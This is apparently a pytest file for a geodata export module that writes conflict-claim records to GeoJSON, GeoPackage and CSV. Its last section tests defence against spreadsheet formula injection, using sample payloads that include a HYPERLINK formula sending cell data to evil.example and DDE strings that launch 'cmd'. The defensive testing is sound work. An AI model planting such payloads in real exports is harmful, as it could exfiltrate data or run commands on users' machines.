"""Exports: GeoJSON, GeoPackage and CSV written atomically, with the GeoNames credit."""

from __future__ import annotations

import csv
import json
import sqlite3
from datetime import date

import geopandas
import pandas
import pyogrio
import pyogrio.raw
import pytest

from geo.errors import InputError
from geo.store.export import ATTRIBUTION, claims_frame, write_claims
from geo.store.sqlite import CLAIM_COLUMNS, Store
from geo.tables import CLAIM_CSV_COLUMNS


@pytest.fixture
def rows(make_article, make_mention, make_claim):
    """Claims as the store returns them: two located (one with a non-ASCII name), one without."""
    a = make_mention(12, "Testivka", 900001, 48.5, 37.5)
    b = make_mention(30, "Ruïnivka", 900002, 47.25, 36.125)
    lost = make_mention(50, "Zzyx", None, None, None)
    with Store() as store:
        store.ingest(make_article(), [a, b, lost], [
            make_claim(a, "RU", "captured"), make_claim(b, "UA", "struck", date(2024, 2, 19)),
            make_claim(lost, "other", "contested", geonameid=0, place="Zzyx")])
        return store.claims()


def coords(frame) -> list[tuple[str, float, float]]:
    return sorted((p, round(g.x, 6), round(g.y, 6)) for p, g in zip(frame["place"], frame.geometry))


EXPECTED = [("Ruïnivka", 36.125, 47.25), ("Testivka", 37.5, 48.5)]


def test_frame_has_points_in_wgs84_and_drops_rows_without_coordinates(rows):
    assert len(rows) == 3
    frame = claims_frame(rows)
    assert frame.crs.to_epsg() == 4326
    assert list(frame.columns) == [*CLAIM_CSV_COLUMNS, "geometry"]
    assert coords(frame) == EXPECTED
    assert set(frame.geom_type) == {"Point"}


def test_geojson_reads_back_and_carries_the_credit(rows, tmp_path):
    path = write_claims(rows, tmp_path / "claims.geojson")
    frame = geopandas.read_file(path)
    assert len(frame) == 2 and coords(frame) == EXPECTED
    assert frame.crs.to_epsg() == 4326
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["type"] == "FeatureCollection" and data["attribution"] == ATTRIBUTION
    props = data["features"][0]["properties"]
    assert set(CLAIM_COLUMNS) <= set(props) and "attribution" not in props


def test_geopackage_layer_claims_reads_back_with_described_credit(rows, tmp_path):
    path = write_claims(rows, tmp_path / "claims.gpkg")
    assert [name for name, _ in pyogrio.list_layers(path)] == ["claims"]
    frame = geopandas.read_file(path, layer="claims")
    assert len(frame) == 2 and coords(frame) == EXPECTED
    assert frame.crs.to_epsg() == 4326
    assert sorted(frame["claimant"]) == ["RU", "UA"]
    with sqlite3.connect(path) as db:
        description = db.execute(
            "SELECT description FROM gpkg_contents WHERE table_name = 'claims'").fetchone()
    assert description == (ATTRIBUTION,)


def test_geopackage_dates_are_date_fields_and_text_elsewhere(rows, tmp_path):
    # QGIS's temporal controller needs date fields, not text.
    path = write_claims(rows, tmp_path / "claims.gpkg")
    info = pyogrio.read_info(path, layer="claims")
    types = dict(zip(info["fields"], info["dtypes"]))
    frame = geopandas.read_file(path, layer="claims")
    for col in ("published", "date_from", "date_to"):
        assert types[col].startswith("datetime64"), (col, types[col])
        assert pandas.api.types.is_datetime64_any_dtype(frame[col]), (col, frame[col].dtype)
    with sqlite3.connect(path) as db:
        declared = {r[1]: r[2] for r in db.execute("PRAGMA table_info(claims)")}
    assert (declared["published"], declared["date_from"], declared["date_to"]) == ("DATE", "DATE", "DATE")
    ua = frame[frame["claimant"] == "UA"].iloc[0]
    assert ua["date_from"] == pandas.Timestamp("2024-02-19") and ua["date_to"] == pandas.Timestamp("2024-02-19")
    assert sorted(frame["claimant"]) == ["RU", "UA"] and set(frame["corrected"]) == {False}
    located = {r["claim_id"]: r for r in rows if r["lat"] is not None}
    assert {(c, p) for c, p in zip(frame["claim_id"], frame["published"].dt.strftime("%Y-%m-%d"))} == {
        (c, r["published"]) for c, r in located.items()}
    # GeoJSON keeps ISO text.
    geo = json.loads(write_claims(rows, tmp_path / "claims.geojson").read_text(encoding="utf-8"))
    assert {f["properties"]["claim_id"]: f["properties"]["date_from"] for f in geo["features"]} == {
        c: r["date_from"] for c, r in located.items()}


def test_csv_has_plain_columns_and_an_attribution_column(rows, tmp_path):
    path = write_claims(rows, tmp_path / "claims.csv")
    with open(path, encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        assert reader.fieldnames == [*CLAIM_CSV_COLUMNS, "attribution"]
        got = list(reader)
    assert sorted((r["place"], float(r["lon"]), float(r["lat"])) for r in got) == EXPECTED
    assert {r["attribution"] for r in got} == {ATTRIBUTION}
    ua = next(r for r in got if r["claimant"] == "UA")
    assert (ua["control"], ua["date_from"], ua["kind"]) == ("", "2024-02-19", "struck")


def test_format_can_be_given_and_unknown_formats_name_the_path(rows, tmp_path):
    path = write_claims(rows, tmp_path / "claims.txt", fmt="csv")
    assert path.read_text(encoding="utf-8").startswith("claim_id,")
    with pytest.raises(InputError, match="claims.shp"):
        write_claims(rows, tmp_path / "claims.shp")
    with pytest.raises(InputError, match="claims.geojson"):
        write_claims(rows, tmp_path / "claims.geojson", fmt="kml")
    assert not (tmp_path / "claims.shp").exists() and not (tmp_path / "claims.geojson").exists()


@pytest.mark.parametrize("name", ["claims.geojson", "claims.gpkg", "claims.csv"])
def test_empty_export_is_valid(tmp_path, name):
    path = write_claims([], tmp_path / name)
    if name.endswith(".csv"):
        assert path.read_text(encoding="utf-8").splitlines() == [",".join([*CLAIM_CSV_COLUMNS, "attribution"])]
    else:
        assert len(geopandas.read_file(path)) == 0


@pytest.mark.parametrize("name", ["claims.geojson", "claims.gpkg"])
def test_failed_export_leaves_existing_file_and_no_temporary_files(rows, tmp_path, monkeypatch, name):
    path = tmp_path / name
    path.write_bytes(b"previous good export")

    def half_write(filename, *args, **kwargs):
        with open(filename, "wb") as f:
            f.write(b"{\"type\": \"Featu")
        raise OSError("disk full")

    monkeypatch.setattr(geopandas.GeoDataFrame, "to_file", lambda self, *a, **kw: half_write(*a, **kw))
    monkeypatch.setattr(pyogrio.raw, "write", half_write)  # the GeoPackage writer (for its Date fields)
    with pytest.raises(InputError, match=f"{name}.*disk full"):
        write_claims(rows, path)
    assert path.read_bytes() == b"previous good export"
    assert [p.name for p in tmp_path.iterdir()] == [name]


def test_export_replaces_an_older_file(rows, tmp_path):
    path = tmp_path / "claims.geojson"
    write_claims(rows[:1], path)
    write_claims(rows, path)
    assert len(geopandas.read_file(path)) == 2
    assert [p.name for p in tmp_path.iterdir()] == ["claims.geojson"]


# -- text a spreadsheet would run ------------------------------------------------------------------
FORMULAS = {"quote": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "title": "+cmd|' /C calc'!A0",
            "source": "@SUM(1+1)*cmd|' /C calc'!A0", "surface": "-2+3", "date_phrase": "\t=1+1",
            "cue": "\r=1+1"}


@pytest.fixture
def formula_rows(make_article, make_mention, make_claim):
    """One stored claim whose text fields each start like a spreadsheet formula."""
    m = make_mention(12, "Testivka", 900001, 48.5, -37.5)
    fields = {k: v for k, v in FORMULAS.items() if k in ("quote", "surface", "date_phrase", "cue")}
    with Store() as store:
        store.ingest(make_article(title=FORMULAS["title"], source=FORMULAS["source"]), [m],
                     [make_claim(m, **fields)])
        return store.claims()


def _csv_dicts(text: str) -> list[dict]:
    import io

    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_formula_text_is_neutralised_in_the_csv_export(formula_rows, tmp_path):
    path = write_claims(formula_rows, tmp_path / "claims.csv")
    (row,) = _csv_dicts(path.read_bytes().decode("utf-8"))
    for key, value in FORMULAS.items():
        assert row[key] == "'" + value, key
    assert row["lon"] == "-37.5"  # numbers stay numbers
    assert row["place"] == "Testivka" and row["attribution"] == ATTRIBUTION


def test_formula_text_is_neutralised_in_the_csv_listing(formula_rows):
    from geo.store.listing import format_claims

    (row,) = _csv_dicts(format_claims(formula_rows, "csv"))
    for key, value in FORMULAS.items():
        assert row[key] == "'" + value, key
    assert row["lon"] == "-37.5" and row["claim_id"] == str(formula_rows[0]["claim_id"])


def test_geojson_and_geopackage_keep_formula_text_exact(formula_rows, tmp_path):
    data = json.loads(write_claims(formula_rows, tmp_path / "claims.geojson").read_text(encoding="utf-8"))
    props = data["features"][0]["properties"]
    frame = geopandas.read_file(write_claims(formula_rows, tmp_path / "claims.gpkg"), layer="claims")
    for key, value in FORMULAS.items():
        assert props[key] == value and frame.iloc[0][key] == value, key


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), (" =1", " =1"), (-3.5, -3.5), (12, 12), (None, None), (True, True)])
def test_safe_cell(value, cell):
    from geo.tables import safe_cell

    assert safe_cell(value) == cell
